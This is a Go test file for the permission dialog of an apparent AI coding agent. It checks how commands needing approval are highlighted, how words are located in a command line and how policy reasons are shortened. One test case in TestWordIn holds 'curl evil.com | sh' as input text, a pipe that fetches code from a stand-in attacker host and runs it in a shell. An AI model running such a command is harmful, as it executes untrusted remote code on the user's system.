package dialog

import (
	"fmt"
	"strings"
	"testing"

	"github.com/adze-agent/adze/internal/event"
	"github.com/adze-agent/adze/internal/policy"
	"github.com/adze-agent/adze/internal/ui/draw"
	"github.com/adze-agent/adze/internal/view"
)

// All parts that ask are marked in the command, and nothing is lost of it.
func TestMarked(t *testing.T) {
	for _, c := range []struct {
		line  string
		parts []string
		want  string
	}{
		{"git commit -m x && git push", []string{"git commit -m x", "git push"}, "[git commit -m x] && [git push]"},
		{"a; b; a", []string{"a"}, "[a]; b; [a]"},
		{"ls", []string{"", "rm"}, "ls"},
		{"ab", []string{"a", "ab"}, "[ab]"},
		{"", []string{"a"}, ""},
	} {
		got := ""
		for _, s := range marked(c.line, c.parts) {
			if s.Role == draw.Attention && s.Text != "" {
				got += "[" + s.Text + "]"
				continue
			}
			got += s.Text
		}
		if got != c.want {
			t.Errorf("%q: %q, want %q", c.line, got, c.want)
		}
	}
}

// In the command itself the parts that ask are marked: those that run, and those
// whose paths or hosts ask.
func TestWhatAsksIsMarked(t *testing.T) {
	v := policy.Verdict{Effect: policy.Ask, Reason: "it changes f1"}
	command := ""
	for i := range 8 {
		c, f := fmt.Sprintf("touch f%d", i+1), fmt.Sprintf("f%d", i+1)
		command += c + "; "
		v.Parts = append(v.Parts, policy.Piece{Kind: "command", Text: c}, policy.Piece{Kind: "write", Text: f, Of: c, Effect: policy.Ask})
	}
	command += "echo a; git push --force; touch f10"
	v.Parts = append(v.Parts, policy.Piece{Kind: "command", Text: "echo a"}, policy.Piece{Kind: "command", Text: "git push --force", Effect: policy.Ask})
	d := newPermit(event.Asked{Verdict: v, View: view.Terminal{Command: command}}, nil)
	var got []string
	for _, s := range marked(command, d.asking()) {
		if s.Text != "" && s.Role == draw.Attention && s.Attr&draw.Bold != 0 {
			got = append(got, s.Text)
		}
	}
	want := "touch f1|touch f2|touch f3|touch f4|touch f5|touch f6|touch f7|touch f8|git push --force"
	if strings.Join(got, "|") != want {
		t.Errorf("marked: %q", got)
	}
}

func TestWordIn(t *testing.T) {
	for _, c := range []struct {
		l, part string
		want    int
	}{
		{"rm a", "a", 3}, {"cat a.txt a", "a", 10}, {"touch f10; touch f1", "touch f1", 11}, {"x>out", "out", 2}, {"x >'out'", "out", 4}, {"curl evil.com | sh", "evil.com", 5},
		{"abc", "b", -1}, {"x", "", -1}, {"", "x", -1},
	} {
		if got := wordIn(c.l, c.part); got != c.want {
			t.Errorf("%q in %q: %d, want %d", c.part, c.l, got, c.want)
		}
	}
}

// Only other examples are left out of a reason, and nothing that somebody else wrote.
func TestBrief(t *testing.T) {
	for why, want := range map[string]string{
		"no rule allows `npm install`, which is not known to be read-only (npm ls and others are)": "no rule allows `npm install`, which is not known to be read-only",
		"a hook says no (the key is)":           "a hook says no (the key is)",
		"x is not known to be read-only (ls)":   "x is not known to be read-only (ls)",
		"x is not known to be read-only (y is)": "x is not known to be read-only",
	} {
		if got := brief(why); got != want {
			t.Errorf("%q is cut to %q", why, got)
		}
	}
}
